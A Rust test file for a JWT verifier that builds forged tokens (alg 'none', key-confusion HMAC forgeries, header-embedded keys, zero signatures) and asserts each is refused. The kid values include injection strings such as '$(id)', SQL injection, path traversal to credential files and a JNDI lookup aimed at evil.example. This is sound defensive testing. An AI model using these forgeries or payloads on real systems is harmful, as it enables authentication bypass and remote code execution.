//! Every known way to pretend to be somebody, as one table with the refusal that each meets.
//!
//! Sources: RFC 7515 §10, RFC 7518 §8, RFC 7797, RFC 8725 (the whole of it is such a list), and
//! what was reported against other libraries since: CVE-2015-9235 (a public key as a secret),
//! CVE-2018-0114 (a key in the header), CVE-2022-21449 (the signature of zeros), CVE-2022-23529
//! and CVE-2016-10555 (the algorithm chosen by the token), CVE-2026-25537 (types of times).

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::*;
use crate::auth::key_sets::KeySets;
use crate::config::Algorithm::{ES256, EdDSA, HS256, HS384, PS256, RS256};
use crate::config::Jwt;

/// What the token is presented to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Before {
    /// A secret, for HS256.
    Secret,
    /// A public key in PEM, for ES256.
    Es256,
    /// A public key in PEM, for RS256.
    Rs256,
    /// A set for RS256, PS256 and ES256, with the keys of [`published`].
    Set,
}

struct Attack {
    before: Before,
    token: String,
    refused: TokenRefused,
}

fn attack(before: Before, token: impl Into<String>, refused: TokenRefused) -> Attack {
    Attack {
        before,
        token: token.into(),
        refused,
    }
}

/// `one` and `two` are the same key under two names; those after `rsa`, `one` and `two` are not
/// to be used.
fn published() -> Vec<Value> {
    vec![
        RSA.jwk(json!({"kid": "rsa", "alg": "RS256"})),
        P256.jwk(json!({"kid": "one"})),
        P256.jwk(json!({"kid": "two"})),
        ED25519.jwk(json!({"kid": "ed"})),
        P256.jwk(json!({"kid": "enc", "use": "enc"})),
        P256.jwk(json!({"kid": "leaked", "d": "AAAA"})),
        json!({"kty": "oct", "kid": "oct", "alg": "HS256", "k": base64url(SECRET)}),
        json!({"kty": "oct", "kid": "masked", "alg": "RS256", "k": base64url(SECRET)}),
    ]
}

fn verifiers() -> Vec<(Before, Verifier)> {
    let es256 = TempFile::new(&P256.public);
    let rs256 = TempFile::new(&RSA.public);
    let set = TempFile::new(key_set(&published()));
    let rules: [(Before, Jwt); 4] = [
        (Before::Secret, secret_jwt()),
        (Before::Es256, jwt(ES256, es256.source())),
        (Before::Rs256, jwt(RS256, rs256.source())),
        (Before::Set, set_jwt(&[RS256, PS256, ES256], set.path())),
    ];
    rules
        .map(|(before, jwt)| {
            let loaded = Verifier::load(&jwt, &env, &mut KeySets::default());
            (before, loaded.expect("good keys").0)
        })
        .into()
}

/// A good token for each, which shows that it is the attack that is refused.
fn good_tokens() -> Vec<(Before, String)> {
    let claims = good_claims(json!({}));
    let named = |kid: &str, alg: &str| json!({"alg": alg, "kid": kid});
    vec![
        (Before::Secret, token(HEADER, &claims)),
        (
            Before::Es256,
            P256.sign(&json!({"alg": "ES256"}), &claims, ES256),
        ),
        (
            Before::Rs256,
            RSA.sign(&json!({"alg": "RS256"}), &claims, RS256),
        ),
        (
            Before::Set,
            P256.sign(&named("one", "ES256"), &claims, ES256),
        ),
        (
            Before::Set,
            P256.sign(&named("two", "ES256"), &claims, ES256),
        ),
        (
            Before::Set,
            RSA.sign(&named("rsa", "RS256"), &claims, RS256),
        ),
        // The only key for its algorithm.
        (
            Before::Set,
            RSA.sign(&json!({"alg": "RS256"}), &claims, RS256),
        ),
    ]
}

#[test]
fn every_attack_meets_its_refusal() {
    let verifiers = verifiers();
    let verify = |before: Before, token: &str| {
        let found = verifiers.iter().find(|(which, _)| *which == before);
        found.expect("one for each").1.verify(token, now())
    };
    for (before, token) in good_tokens() {
        assert!(verify(before, &token).is_ok(), "{before:?}: {token}");
    }
    let subjects = [
        malformed(),
        headers(),
        confusions(),
        signatures(),
        key_names(),
        claims(),
    ];
    let attacks: Vec<Attack> = subjects.into_iter().flatten().collect();
    let mut reasons = BTreeSet::new();
    for Attack {
        before,
        token,
        refused,
    } in &attacks
    {
        let found = verify(*before, token).expect_err(token);
        assert_eq!(found, *refused, "{before:?}: {token}");
        assert_reveals_nothing(&found, token);
        reasons.insert((*before, found.to_string()));
    }
    assert!(attacks.len() > 190, "only {} attacks", attacks.len());
    assert!(
        reasons.len() > 40,
        "only {} reasons: {reasons:#?}",
        reasons.len()
    );
}

/// What is not three parts in canonical base64url, in every form that JOSE has besides.
fn malformed() -> Vec<Attack> {
    let good = token(HEADER, &good_claims(json!({})));
    let mut parts = good.split('.');
    let mut part = || parts.next().expect("three parts");
    let (h, p, s) = (part(), part(), part());
    // The last of 43 characters carries two bits that must be zero.
    let (body, last) = s.split_at(s.len() - 1);
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let at = alphabet.find(last).expect("a base64url character");
    let stray = format!("{body}{}", &alphabet[at + 1..at + 2]);
    let general = json!({"payload": p, "signatures": [{"protected": h, "signature": s}]});
    let flattened = json!({"payload": p, "protected": h, "signature": s});
    let tokens = [
        String::new(),
        ".".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
        h.to_owned(),
        format!("{h}.{p}"),
        format!("{h}.{p}."),
        format!(".{p}.{s}"),
        format!("{h}..{s}"),
        format!("{good}."),
        format!(".{good}"),
        format!("{good}.{s}"),
        format!("{h}.{p}.{s}.{s}.{s}"),
        format!("{good}="),
        format!("{h}=.{p}.{s}"),
        format!("{h}.{p}==.{s}"),
        format!("{h} .{p}.{s}"),
        format!(" {good}"),
        format!("{good}\n"),
        format!("{h}.{p}\r\n.{s}"),
        format!("{h}.{p}.{stray}"),
        format!("{h}.{p}.+/{s}"),
        format!("{h}.{p}.é{s}"),
        format!("{h}.A.{s}"),
        // The JSON serializations (RFC 7515 §7.2), and encrypted tokens (RFC 7516 §7.1).
        general.to_string(),
        flattened.to_string(),
        format!("{h}..{p}.{s}.{s}"),
        format!("{h}.{p}.{p}.{p}.{s}"),
    ];
    tokens
        .into_iter()
        .map(|token| attack(Before::Secret, token, TokenRefused::Malformed))
        .collect()
}

/// Headers that choose an algorithm, a key or a reading of their own.
fn headers() -> Vec<Attack> {
    use TokenRefused::*;
    let own_key = P384.jwk(json!({}));
    let embedded = json!({"alg": "ES256", "kid": "one", "jwk": own_key}).to_string();
    let huge = format!(r#"{{"alg":"HS256","x":"{}"}}"#, "x".repeat(MAX_TOKEN));
    let deep = format!(r#"{{"alg":"HS256","x":{}"#, "[".repeat(5000));
    let cases = [
        (r#"{"alg":"none"}"#, Algorithm),
        (r#"{"alg":"None"}"#, Algorithm),
        (r#"{"alg":"hs256"}"#, Algorithm),
        (r#"{"alg":"HS384"}"#, Algorithm),
        (r#"{"alg":"RS256"}"#, Algorithm),
        (r#"{"alg":"ES256K"}"#, Algorithm),
        (r#"{"alg":"HS256 "}"#, Algorithm),
        (r#"{"alg":""}"#, Algorithm),
        (r#"{"alg":["HS256"]}"#, HeaderMalformed),
        (r#"{"alg":null}"#, HeaderMalformed),
        (r#"{"typ":"JWT"}"#, HeaderMalformed),
        (r#"{}"#, HeaderMalformed),
        (r#"[]"#, HeaderMalformed),
        (r#""HS256""#, HeaderMalformed),
        (r#"not json"#, HeaderMalformed),
        (r#"{"alg":"HS256"} x"#, HeaderMalformed),
        (r#"{"alg":"HS256","alg":"HS256"}"#, Duplicate),
        (r#"{"alg":"none","alg":"HS256"}"#, Duplicate),
        (r#"{"alg":"HS256","\u0061lg":"none"}"#, Duplicate),
        (r#"{"alg":"HS256","x":{"a":1,"a":2}}"#, Duplicate),
        (r#"{"alg":"HS256","crit":[]}"#, HeaderMember("crit")),
        (
            r#"{"alg":"HS256","crit":["exp"],"exp":1}"#,
            HeaderMember("crit"),
        ),
        (r#"{"alg":"HS256","crit":null}"#, HeaderMember("crit")),
        (r#"{"alg":"HS256","b64":false}"#, HeaderMember("b64")),
        (r#"{"alg":"HS256","b64":true}"#, HeaderMember("b64")),
        (r#"{"alg":"HS256","zip":"DEF"}"#, HeaderMember("zip")),
        (r#"{"alg":"HS256","enc":"A128GCM"}"#, HeaderMember("enc")),
        (
            r#"{"alg":"HS256","jku":"https://evil.example"}"#,
            HeaderMember("jku"),
        ),
        (
            r#"{"alg":"HS256","x5u":"https://evil.example"}"#,
            HeaderMember("x5u"),
        ),
        (r#"{"alg":"HS256","x5c":["AAAA"]}"#, HeaderMember("x5c")),
        (
            r#"{"alg":"HS256","jwk":{"kty":"oct","k":"AAAA"}}"#,
            HeaderMember("jwk"),
        ),
        (r#"{"alg":"HS256","cty":"JWT"}"#, Nested),
        (r#"{"alg":"HS256","cty":"jwt"}"#, Nested),
        (r#"{"alg":"HS256","cty":"application/JWT"}"#, Nested),
        (r#"{"alg":"HS256","cty":1}"#, HeaderMalformed),
        (r#"{"alg":"HS256","typ":1}"#, HeaderMalformed),
        (r#"{"alg":"HS256","kid":1}"#, HeaderMalformed),
        (r#"{"alg":"nOnE"}"#, Algorithm),
        (r#"{"alg":"NONE"}"#, Algorithm),
        (r#"{"alg":"none\u0000"}"#, Algorithm),
        (r#"{"alg":"HS256\u0000"}"#, Algorithm),
        (r#"{"alg":"HS512"}"#, Algorithm),
        (r#"{"alg":"dir","enc":"A256GCM"}"#, HeaderMember("enc")),
        (r#"{"alg":"RSA-OAEP"}"#, Algorithm),
        (
            r#"{"alg":"PBES2-HS256+A128KW","p2c":2147483647}"#,
            Algorithm,
        ),
        (r#"{"alg":{"HS256":1}}"#, HeaderMalformed),
        (r#"{"alg":true}"#, HeaderMalformed),
        (r#"{"Alg":"HS256"}"#, HeaderMalformed),
        (
            r#"{"alg":"HS256","crit":["b64"],"b64":false}"#,
            HeaderMember("crit"),
        ),
        (
            r#"{"alg":"HS256","crit":["x"],"x":1}"#,
            HeaderMember("crit"),
        ),
        (r#"{"alg":"HS256","crit":"exp"}"#, HeaderMember("crit")),
        (r#"{"alg":"HS256","epk":{}}"#, HeaderMember("epk")),
        (r#"{"alg":"HS256","kid":null}"#, HeaderMalformed),
        (r#"{"alg":"HS256","kid":["a"]}"#, HeaderMalformed),
        (r#"{"alg":"HS256","kid":"a","kid":"b"}"#, Duplicate),
        (r#"{"alg":"HS256","cty":"Application/Jwt"}"#, Nested),
        (embedded.as_str(), HeaderMember("jwk")),
        (huge.as_str(), TooLong),
        (deep.as_str(), HeaderMalformed),
    ];
    let claims = good_claims(json!({}));
    let mut attacks: Vec<Attack> = cases
        .into_iter()
        .map(|(header, refused)| attack(Before::Secret, token(header, &claims), refused))
        .collect();
    // No good signature excuses a key in the header (CVE-2018-0114).
    let brought = P384.jwk(json!({}));
    for (name, value) in [
        ("jwk", brought),
        ("jku", json!("https://evil.example/keys")),
        ("x5u", json!("https://evil.example/chain")),
        ("x5c", json!(["AAAA"])),
    ] {
        let mut header = json!({"alg": "ES256", "kid": "one"});
        header[name] = value;
        let token = P256.sign(&header, &claims, ES256);
        let member = REFUSED_MEMBERS.iter().find(|member| **member == name);
        attacks.push(attack(
            Before::Set,
            token,
            HeaderMember(member.expect("one of them")),
        ));
    }
    attacks
}

/// A public key as a secret, and one algorithm in place of another.
fn confusions() -> Vec<Attack> {
    use TokenRefused::{Algorithm, KeyAlgorithm, KeyUnknown, Signature};
    let claims = good_claims(json!({}));
    let mut attacks = Vec::new();
    for (before, pair) in [(Before::Es256, &P256), (Before::Rs256, &RSA)] {
        let own = if before == Before::Es256 {
            "ES256"
        } else {
            "RS256"
        };
        let jwk = pair.jwk(json!({}));
        let coordinate = jwk["x"]
            .as_str()
            .or(jwk["n"].as_str())
            .expect("text")
            .to_owned();
        for secret in [
            pair.public.clone(),
            pair.public.trim_end().to_owned(),
            pair.public
                .lines()
                .filter(|line| !line.starts_with('-'))
                .collect(),
            jwk.to_string(),
            key_set(std::slice::from_ref(&jwk)),
            coordinate,
        ] {
            for alg in ["HS256", own] {
                let header = format!(r#"{{"alg":"{alg}","kid":"rsa"}}"#);
                let forged = sign_parts(&header, &claims, HS256, secret.as_bytes());
                let refused = if alg == own { Signature } else { Algorithm };
                attacks.push(attack(before, forged.clone(), refused));
                // In the set that name is a key for RS256.
                let refused = match alg {
                    "HS256" => Algorithm,
                    "RS256" => Signature,
                    _ => KeyAlgorithm,
                };
                attacks.push(attack(Before::Set, forged, refused));
            }
        }
    }
    // With a secret that the set gives away, and with an empty one.
    for (kid, alg, secret, refused) in [
        ("oct", "HS256", SECRET, Algorithm),
        ("oct", "RS256", SECRET, KeyUnknown),
        ("masked", "RS256", SECRET, KeyUnknown),
        ("masked", "HS256", SECRET, Algorithm),
        ("../../../../dev/null", "HS256", "", Algorithm),
    ] {
        let header = json!({"alg": alg, "kid": kid}).to_string();
        let forged = sign_parts(&header, &claims, HS256, secret.as_bytes());
        attacks.push(attack(Before::Set, forged, refused));
    }
    // A good key for the wrong one of the configured algorithms.
    let named = |kid: &str, alg: &str| json!({"alg": alg, "kid": kid});
    attacks.extend([
        attack(
            Before::Set,
            RSA.sign(&named("rsa", "PS256"), &claims, PS256),
            KeyAlgorithm,
        ),
        attack(
            Before::Set,
            RSA.sign(&named("rsa", "RS384"), &claims, RS256),
            Algorithm,
        ),
        attack(
            Before::Set,
            RSA.sign(&named("one", "RS256"), &claims, RS256),
            KeyAlgorithm,
        ),
        attack(
            Before::Set,
            P256.sign(&named("rsa", "ES256"), &claims, ES256),
            KeyAlgorithm,
        ),
        attack(
            Before::Set,
            ED25519.sign(&named("ed", "EdDSA"), &claims, EdDSA),
            Algorithm,
        ),
        attack(
            Before::Set,
            ED25519.sign(&named("one", "ES256"), &claims, EdDSA),
            Signature,
        ),
        attack(
            Before::Rs256,
            RSA.sign(&json!({"alg": "PS256"}), &claims, PS256),
            Algorithm,
        ),
        attack(
            Before::Rs256,
            RSA.sign(&json!({"alg": "RS256"}), &claims, PS256),
            Signature,
        ),
        attack(
            Before::Secret,
            sign_parts(HEADER, &claims, HS384, SECRET.as_bytes()),
            Signature,
        ),
    ]);
    attacks
}

/// Signatures that are somebody else's, or none.
fn signatures() -> Vec<Attack> {
    use TokenRefused::{Malformed, Signature};
    let good = token(HEADER, &good_claims(json!({})));
    let (message, signature) = good.rsplit_once('.').expect("three parts");
    let (header, _) = message.split_once('.').expect("a header");
    let admin = base64url(good_claims(json!({"sub": "admin"})));
    let flipped = match signature.strip_prefix('A') {
        Some(rest) => format!("B{rest}"),
        None => format!("A{}", signature.get(1..).expect("ASCII")),
    };
    let other = sign_parts(
        HEADER,
        &good_claims(json!({})),
        HS256,
        b"another secret of at least 32 bytes",
    );
    // Signed with another digest than the header says.
    let hs512 = sign_parts(
        HEADER,
        &good_claims(json!({})),
        Algorithm::HS512,
        SECRET.as_bytes(),
    );
    let mut attacks: Vec<Attack> = [
        format!("{header}.{admin}.{signature}"),
        format!("{message}.{flipped}"),
        format!("{message}.AAAA"),
        format!("{message}.{signature}AAAA"),
        format!("{message}.{}", signature.get(..20).expect("ASCII")),
        other,
        hs512,
        sign_parts(HEADER, &good_claims(json!({})), HS256, b""),
    ]
    .into_iter()
    .map(|token| attack(Before::Secret, token, Signature))
    .collect();
    for (before, pair, with) in [
        (Before::Es256, &P256, ES256),
        (Before::Rs256, &RSA, RS256),
        (Before::Set, &P256, ES256),
        (Before::Set, &RSA, RS256),
    ] {
        let kid = if with == ES256 { "one" } else { "rsa" };
        let header = json!({"alg": format!("{with:?}"), "kid": kid});
        let good = pair.sign(&header, &good_claims(json!({})), with);
        let (message, signature) = good.rsplit_once('.').expect("three parts");
        let (head, _) = message.split_once('.').expect("a header");
        attacks.push(attack(before, format!("{message}."), Malformed));
        attacks.push(attack(
            before,
            format!("{head}.{admin}.{signature}"),
            Signature,
        ));
        // Zeros (CVE-2022-21449), ones, and lengths around the right one.
        for size in [1_usize, 32, 63, 64, 65, 72, 96, 128, 256, 257] {
            for byte in [0, 1, 0xff] {
                let forged = format!("{message}.{}", base64url(vec![byte; size]));
                attacks.push(attack(before, forged, Signature));
            }
        }
        // Good, but for one bit.
        let mut bytes = URL_SAFE_NO_PAD.decode(signature).expect("base64url");
        bytes[0] ^= 1;
        attacks.push(attack(
            before,
            format!("{message}.{}", base64url(&bytes)),
            Signature,
        ));
    }
    attacks
}

/// Names of keys that are not in the set, or not one key's.
fn key_names() -> Vec<Attack> {
    use TokenRefused::{KeyAmbiguous, KeyUnknown};
    let claims = good_claims(json!({}));
    let names = [
        "",
        " ",
        "One",
        "one ",
        " one",
        "one\0",
        "one\n",
        "on",
        "onetwo",
        "\u{ff4f}ne",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://evil.example/keys",
        "' OR 1=1 --",
        "one'; DROP TABLE keys; --",
        "$(id)",
        "`id`",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "0",
        "-1",
        "__proto__",
        "constructor",
        "null",
        "*",
        "enc",
        "leaked",
        "oct",
        "masked",
    ];
    let long = "k".repeat(5000);
    let mut attacks: Vec<Attack> = names
        .into_iter()
        .chain([long.as_str()])
        .map(|kid| {
            let token = P256.sign(&json!({"alg": "ES256", "kid": kid}), &claims, ES256);
            attack(Before::Set, token, KeyUnknown)
        })
        .collect();
    let nameless = P256.sign(&json!({"alg": "ES256"}), &claims, ES256);
    attacks.push(attack(Before::Set, nameless, KeyAmbiguous));
    let ps256 = RSA.sign(&json!({"alg": "PS256"}), &claims, PS256);
    attacks.push(attack(Before::Set, ps256, KeyUnknown));
    attacks
}

/// Good signatures below claims that say too much, too little, or it in the wrong form.
fn claims() -> Vec<Attack> {
    use TokenRefused::*;
    let now = NOW as f64;
    let changes = [
        (json!({"exp": null}), ClaimMissing("exp")),
        (json!({"exp": "1900000060"}), ClaimInvalid("exp")),
        (json!({"exp": [NOW + 60]}), ClaimInvalid("exp")),
        (json!({"exp": true}), ClaimInvalid("exp")),
        (json!({"exp": -1}), ClaimInvalid("exp")),
        (json!({"exp": i64::MIN}), ClaimInvalid("exp")),
        (json!({"exp": u64::MAX}), ClaimInvalid("exp")),
        (json!({"exp": 1e300}), ClaimInvalid("exp")),
        (json!({"exp": -0.5}), ClaimInvalid("exp")),
        (json!({"exp": (NOW + 60) * 1000}), ClaimInvalid("exp")),
        (json!({"exp": 253_402_300_800_u64}), ClaimInvalid("exp")),
        (json!({"exp": 0}), Expired),
        (json!({"exp": NOW - 30}), Expired),
        (json!({"nbf": NOW + 31}), NotYetValid),
        (json!({"nbf": "0"}), ClaimInvalid("nbf")),
        (json!({"nbf": -1}), ClaimInvalid("nbf")),
        (json!({"nbf": u64::MAX}), ClaimInvalid("nbf")),
        (json!({"iat": NOW + 31}), IssuedInFuture),
        (json!({"iat": "0"}), ClaimInvalid("iat")),
        (json!({"iss": null}), ClaimMissing("iss")),
        (json!({"iss": 5}), ClaimInvalid("iss")),
        (json!({"iss": ["iss"]}), ClaimInvalid("iss")),
        (json!({"iss": "ISS"}), Issuer),
        (json!({"iss": "iss "}), Issuer),
        (json!({"iss": ""}), Issuer),
        (json!({"aud": null}), ClaimMissing("aud")),
        (json!({"aud": 5}), ClaimInvalid("aud")),
        (json!({"aud": {"edge": 1}}), ClaimInvalid("aud")),
        (json!({"aud": ["edge", 5]}), ClaimInvalid("aud")),
        (json!({"aud": [["edge"]]}), ClaimInvalid("aud")),
        (json!({"aud": []}), Audience),
        (json!({"aud": ["other"]}), Audience),
        (json!({"aud": "edge,other"}), Audience),
        (json!({"aud": "EDGE"}), Audience),
        (json!({"sub": 5}), ClaimInvalid("sub")),
        (json!({"sub": "a\nlevel=info"}), ClaimInvalid("sub")),
        (json!({"sub": "a\u{7f}"}), ClaimInvalid("sub")),
        (json!({"sub": "x".repeat(1025)}), ClaimInvalid("sub")),
        (json!({"jti": 5}), ClaimInvalid("jti")),
        (json!({"exp": now - 30.0}), Expired),
        (json!({"exp": now - 29.5}), Expired),
        (json!({"exp": 0.9}), Expired),
        (json!({"exp": {"$date": NOW + 60}}), ClaimInvalid("exp")),
        (json!({"exp": ""}), ClaimInvalid("exp")),
        (json!({"exp": false}), ClaimInvalid("exp")),
        (json!({"exp": -1e-9}), ClaimInvalid("exp")),
        (json!({"exp": -now}), ClaimInvalid("exp")),
        (
            json!({"exp": 9_007_199_254_740_993_u64}),
            ClaimInvalid("exp"),
        ),
        (json!({"nbf": now + 30.5}), NotYetValid),
        (json!({"nbf": [0]}), ClaimInvalid("nbf")),
        (json!({"nbf": true}), ClaimInvalid("nbf")),
        (json!({"nbf": 1e300}), ClaimInvalid("nbf")),
        (json!({"iat": -1}), ClaimInvalid("iat")),
        (json!({"iat": now + 30.5}), IssuedInFuture),
        (json!({"iat": {}}), ClaimInvalid("iat")),
        (json!({"iss": {"iss": 1}}), ClaimInvalid("iss")),
        (json!({"iss": "is"}), Issuer),
        (json!({"iss": "iss/"}), Issuer),
        (json!({"iss": "iss\u{0}"}), Issuer),
        (json!({"aud": ""}), Audience),
        (json!({"aud": "edg"}), Audience),
        (json!({"aud": "edge22"}), Audience),
        (json!({"aud": " edge"}), Audience),
        (json!({"aud": "*"}), Audience),
        (json!({"aud": true}), ClaimInvalid("aud")),
        (json!({"aud": [null, "edge"]}), ClaimInvalid("aud")),
        (json!({"sub": ["alice"]}), ClaimInvalid("sub")),
        (json!({"sub": "a\u{0}"}), ClaimInvalid("sub")),
        (json!({"jti": ["a"]}), ClaimInvalid("jti")),
    ];
    let texts = [
        ("[]", ClaimsMalformed),
        ("null", ClaimsMalformed),
        ("", Malformed),
        ("{", ClaimsMalformed),
        (r#"{"exp":1e999}"#, ClaimsMalformed),
        (r#"{"exp":NaN}"#, ClaimsMalformed),
        (r#"{"exp":null}"#, ClaimInvalid("exp")),
        (r#"{"exp":1900000060,"exp":1900000060}"#, Duplicate),
        (
            r#"{"sub":"alice","exp":1900000060,"sub":"admin"}"#,
            Duplicate,
        ),
        (
            r#"{"sub":"alice","exp":1900000060,"\u0073ub":"admin"}"#,
            Duplicate,
        ),
        (r#"{"exp":01900000060}"#, ClaimsMalformed),
        (r#"{"exp":+1900000060}"#, ClaimsMalformed),
        (r#"{"exp":0x7fffffff}"#, ClaimsMalformed),
        (r#"{"exp":1900000060,}"#, ClaimsMalformed),
        (r#"{"exp":1900000060}{"exp":1900000060}"#, ClaimsMalformed),
        (r#"{"exp":Infinity}"#, ClaimsMalformed),
        (r#"{'exp':1900000060}"#, ClaimsMalformed),
        (r#"{"exp":1900000060,"x":{"a":1,"a":2}}"#, Duplicate),
    ];
    let deep = format!(r#"{{"x":{}"#, "[".repeat(5000));
    let nested = token(HEADER, &good_claims(json!({})));
    let texts = texts.map(|(text, refused)| (text.to_owned(), refused));
    let more = [
        (deep, ClaimsMalformed),
        // A token within a token, of which the header says nothing.
        (nested, ClaimsMalformed),
    ];
    let changed = changes.map(|(changes, refused)| (good_claims(changes), refused));
    texts
        .into_iter()
        .chain(more)
        .chain(changed)
        .map(|(text, refused)| attack(Before::Secret, token(HEADER, &text), refused))
        .collect()
}
